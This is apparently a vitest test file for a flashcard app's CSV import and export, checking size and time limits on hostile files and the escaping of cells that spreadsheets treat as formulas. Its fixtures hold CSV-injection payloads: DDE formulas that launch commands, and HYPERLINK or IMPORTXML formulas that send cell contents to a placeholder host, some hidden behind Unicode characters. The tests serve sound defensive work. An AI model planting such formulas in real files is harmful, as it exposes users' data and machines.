import { describe, expect, test } from 'vitest'
import { FactdeckError } from '../../model'
import { decodeCards } from './decode'
import { readHeaders } from './headers'
import { protectCell, unprotectCell } from './protect'
import { readRows, type TextLayout } from './rows'
import { writeText } from './write'

const commas: TextLayout = { separator: ',', rowSeparator: '\n', quotes: true }
const place = { name: 'evil.csv', line: 1 }

/** What reading a file gives: its rows, or the sentence of its refusal; and how long it took. */
function read(bytes: Uint8Array | string, layout = commas): { rows: string[][]; said: string; took: number } {
  const begin = Date.now()
  try {
    const { text } = decodeCards(
      typeof bytes === 'string' ? new TextEncoder().encode(bytes) : bytes,
      place.name,
    )
    const rows = readRows(text, layout, place).rows.map(({ cells }) => cells)
    return { rows, said: '', took: Date.now() - begin }
  } catch (error) {
    if (!(error instanceof FactdeckError)) throw error
    return { rows: [], said: error.message, took: Date.now() - begin }
  }
}

function utf16(text: string, little: boolean, mark: boolean): Uint8Array {
  const bytes = new Uint8Array((text.length + (mark ? 1 : 0)) * 2)
  const view = new DataView(bytes.buffer)
  const codes = [...(mark ? [0xfeff] : []), ...Array.from(text, (letter) => letter.charCodeAt(0))]
  codes.forEach((code, at) => view.setUint16(at * 2, code, little))
  return bytes
}

describe('tables that were made to be read badly', () => {
  test('one field of 50 MB is refused with its line', () => {
    const { said, took } = read(`front,back\n"${'a'.repeat(50_000_000)}",x`)
    expect(said).toMatch(/^“evil\.csv”, line 2: a cell holds more than 200,000 characters\./)
    expect(took).toBeLessThan(5_000)
  })

  test('so is one field of 50 MB without an end', () => {
    const { said, took } = read(`front,back\nx,y\n"${'a'.repeat(50_000_000)}`)
    expect(said).toMatch(/line 3: a cell holds more than/)
    expect(took).toBeLessThan(5_000)
  })

  test.each([
    ['two million quotes', '"'.repeat(2_000_000)],
    ['two million quotes and one', '"'.repeat(2_000_001)],
    ['two million quotes in cells', '"",'.repeat(1_000_000)],
    ['two million quotes in rows', '"\n'.repeat(2_000_000)],
  ])('%s', (_name, text) => expect(read(text).took).toBeLessThan(5_000))

  test('more rows, and more columns, than anybody has', () => {
    expect(read('a\n'.repeat(600_000)).said).toContain(
      'more than 500,000 rows; reading stopped at line 500001',
    )
    expect(read(`a,b\n${','.repeat(1_000_000)}`).said).toContain('line 2: there are more than 200 columns')
  })

  test.each([
    ['little, with a mark', true, true],
    ['big, with a mark', false, true],
    ['little, without a mark', true, false],
    ['big, without a mark', false, false],
  ])('UTF-16: %s', (_name, little, mark) => {
    expect(read(utf16('Haus,house\r\nTür,door\r\n', little, mark)).rows).toEqual([
      ['Haus', 'house'],
      ['Tür', 'door'],
    ])
  })

  test('lines that end with CR alone, and what is wrong in one of them', () => {
    expect(read('a,b\rc,d\r').rows).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ])
    expect(read(`a,b\rc,d\r\ne,f\n${'x'.repeat(200_001)},g\r`).said).toContain(
      'line 4: a cell holds more than',
    )
  })
})

describe('cells that are formulas elsewhere', () => {
  const formulas = [
    '=HYPERLINK("https://x.invalid/?"&A1,"click")',
    '=1+1',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|0!A0',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("https://x.invalid/?v=",A1),"//a")',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u0000=1+1',
    '\u202e=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '\u3000＝1+1',
    "'=1+1",
  ]

  test.each(formulas)('%j is text, and comes back', (cell) => {
    const safe = protectCell(cell)
    expect(safe.startsWith("'")).toBe(true)
    expect(unprotectCell(safe)).toBe(cell)
  })

  test.each(['-5 °C', '- a point of a list', '+49 30 1234', '@home', "'tis"])(
    '%j comes back as well',
    (cell) => {
      expect(unprotectCell(protectCell(cell))).toBe(cell)
    },
  )

  test.each(['5 °C', 'a = b', 'x+y', 'mail@example.org', 'well-known', '', '“=1”'])(
    '%j stays as it is',
    (cell) => {
      expect(protectCell(cell)).toBe(cell)
    },
  )

  // As a spreadsheet of a country reads the file, in which another character divides cells.
  const divided = (text: string): string[] => text.split(/[,;\t|]/).map((cell) => cell.replace(/^["\s]+/, ''))

  test.each([
    'words;=HYPERLINK("https://x.invalid/?"&A1)',
    "a,+cmd|' /C calc'!A0",
    'a\t"-SUM(1)',
    'a; \u200b@SUM(1)',
    "a;'=SUM(1)",
    ';;=SUM(1),,＝SUM(2)',
  ])('in the middle of a cell as well: %j', (cell) => {
    expect(divided(protectCell(cell)).filter((part) => /^[\p{Cf}]*[=+\-@＝＋－＠]/u.test(part))).toEqual([])
    expect(unprotectCell(protectCell(cell))).toBe(cell)
  })

  test('the head of a file is divided too: names of decks, note types and fields', () => {
    const evil = 'x,=HYPERLINK("https://x.invalid/")'
    const headers = {
      deck: `Evil${evil}`,
      noteType: evil,
      columns: ['=SUM(1)', evil, '-5 °C'],
      tags: ['a;=SUM(1)', 'b'],
    }
    const text = writeText([['a', 'b', 'c']], { separator: ',', spreadsheetSafe: true, headers })
    for (const line of text.split('\n')) {
      const cells = divided(line.replace(/^#columns:/, ''))
      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
    }
    expect(readHeaders(text, 'f').headers).toMatchObject(headers)
  })

  test('protecting takes time that grows with the length and no faster', () => {
    const begin = Date.now()
    for (const piece of ['\t', ';', '; ', ";'", "'", ' ', '=', ';=']) {
      const cell = `(${piece.repeat(200_000 / piece.length)}`
      expect(unprotectCell(protectCell(cell))).toBe(cell)
    }
    expect(Date.now() - begin).toBeLessThan(3_000)
  })

  test('what is not for spreadsheets is exact', () => {
    const rows = formulas.map((cell) => [cell, 'x'])
    const text = writeText(rows, { separator: ',' })
    expect(readRows(text, commas, place).rows.map(({ cells }) => cells)).toEqual(rows)
  })
})
